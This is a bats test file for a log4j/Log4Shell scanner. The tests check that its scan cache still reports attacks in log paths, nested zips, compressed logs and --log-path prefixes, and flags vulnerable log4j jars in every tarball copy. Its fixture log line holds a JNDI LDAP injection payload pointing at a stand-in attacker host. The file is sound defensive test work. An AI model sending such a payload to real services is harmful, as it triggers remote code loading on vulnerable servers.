#!/usr/bin/env bats
# cache.bats - content already scanned in this run is not scanned again,
# but the clean cache never hides what a path-dependent detector (logs:
# log folders, *.log names, --log-path) would report elsewhere.

load helpers

LINE='203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://x.evil.example:1389/a} HTTP/1.1" 200 5 "-" "curl/7.0"'

setup_file() {
    export W="$BATS_FILE_TMPDIR/w"
    mkdir -p "$W"
}

# zipfile OUT NAME=TEXT...: a deflated zip with those members
zipfile() {
    python3 - "$@" <<'PY'
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED) as z:
    for a in sys.argv[2:]:
        name, _, text = a.partition('=')
        z.writestr(zipfile.ZipInfo(name, (2021, 12, 11, 0, 0, 0)), text + '\n')
PY
}

# attack_paths: the path of each attack the report on stdin holds, sorted
attack_paths() {
    jq -r 'select(.kensa.verdict=="attack") | .kensa.path' | sort
}

@test "an inner zip seen clean under /srv is still read as a log under /var/logs" {
    d="$W/nested"
    mkdir -p "$d/srv" "$d/var/logs"
    zipfile "$d/inner.zip" "app.txt=$LINE"
    python3 -c 'import sys, zipfile
z = zipfile.ZipFile(sys.argv[1], "w"); z.write(sys.argv[2], "inner.zip"); z.close()' \
        "$d/srv/a.zip" "$d/inner.zip"
    cp "$d/srv/a.zip" "$d/var/logs/b.zip"
    rm "$d/inner.zip"
    # /srv first, so the inner zip is cached clean before /var/logs
    run k scan --json "$d/srv" "$d/var"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | attack_paths)" = "$d/var/logs/b.zip!/inner.zip!/app.txt" ]
    run k scan --json "$d"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | attack_paths)" = "$d/var/logs/b.zip!/inner.zip!/app.txt" ]
}

# copies DIR A B MEMBER...: one zip with those members at DIR/A/x.zip and
# DIR/B/x.zip (a member named like an archive gets the whole zip keyed in
# the cache, as a war is)
copies() {
    mkdir -p "$1/$2" "$1/$3"
    zipfile "$1/$2/x.zip" "${@:4}" "lib/x.jar=not a jar"
    cp "$1/$2/x.zip" "$1/$3/x.zip"
}

@test "the same zip at the top level: found where it is a log, not elsewhere" {
    copies "$W/top" srv var/logs "app.txt=$LINE"
    run k scan --json "$W/top/srv" "$W/top/var"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | attack_paths)" = "$W/top/var/logs/x.zip!/app.txt" ]
}

@test "an app.log member is found in every copy of a zip" {
    copies "$W/member" srv var/logs "x/app.log=$LINE"
    run k scan --json "$W/member/srv" "$W/member/var"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | attack_paths | wc -l)" -eq 2 ]
}

@test "--log-path: the copy under the given prefix is read, the other is not" {
    copies "$W/lp" a b "app.txt=$LINE"
    run k scan --json --log-path "$W/lp/b" "$W/lp/a" "$W/lp/b"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | attack_paths)" = "$W/lp/b/x.zip!/app.txt" ]
}

@test "--log-path inside a zip: only members under it are read" {
    copies "$W/lpin" a b "app.txt=$LINE" "logs2/app.txt=$LINE"
    run k scan --json --log-path "$W/lpin/b/x.zip!/logs2/" "$W/lpin/a" "$W/lpin/b"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | attack_paths)" = "$W/lpin/b/x.zip!/logs2/app.txt" ]
}

@test "a compressed log's name decides, not only its bytes: x.gz then catalina.out.gz" {
    d="$W/gz"
    mkdir -p "$d/1" "$d/2"
    printf '%s\n' "$LINE" | gzip -c > "$d/1/x.gz"
    cp "$d/1/x.gz" "$d/2/catalina.out.gz"
    run k scan --json "$d/1" "$d/2"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | attack_paths)" = "$d/2/catalina.out.gz!/catalina.out" ]
}

@test "identical tarballs with a finding: every copy is reported" {
    make_fixtures
    d="$W/tgz"
    mkdir -p "$d/1" "$d/2" "$d/3"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$d/core.jar"
    tar -C "$d" -czf "$d/1/app.tar.gz" core.jar
    rm "$d/core.jar"
    cp "$d/1/app.tar.gz" "$d/2/app.tar.gz"
    cp "$d/1/app.tar.gz" "$d/3/app.tar.gz"
    run k log4j --json "$d"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | jq -r 'select(.kensa.verdict=="vulnerable") | .kensa.path' | sort -u | wc -l)" -eq 3 ]
}

@test "identical clean tarballs: scanned once, the same (empty) report" {
    d="$W/clean"
    mkdir -p "$d/1" "$d/2"
    printf 'hello\n' > "$d/readme.txt"
    tar -C "$d" -cjf "$d/1/src.tar.bz2" readme.txt
    rm "$d/readme.txt"
    cp "$d/1/src.tar.bz2" "$d/2/src.tar.bz2"
    run k log4j --json "$d"
    [ "$status" -eq 0 ]
    [ "$(echo "$output" | jq -r 'select(.event.kind!="event")' | wc -l)" -eq 0 ]
    # both copies were read (a stub that exits at once reads none)
    run "$KENSA" log4j --threads 1 --json --lang en "$d"
    [ "$status" -eq 0 ]
    [[ "$output" == *"Scanned files: 2 ("* ]]
}
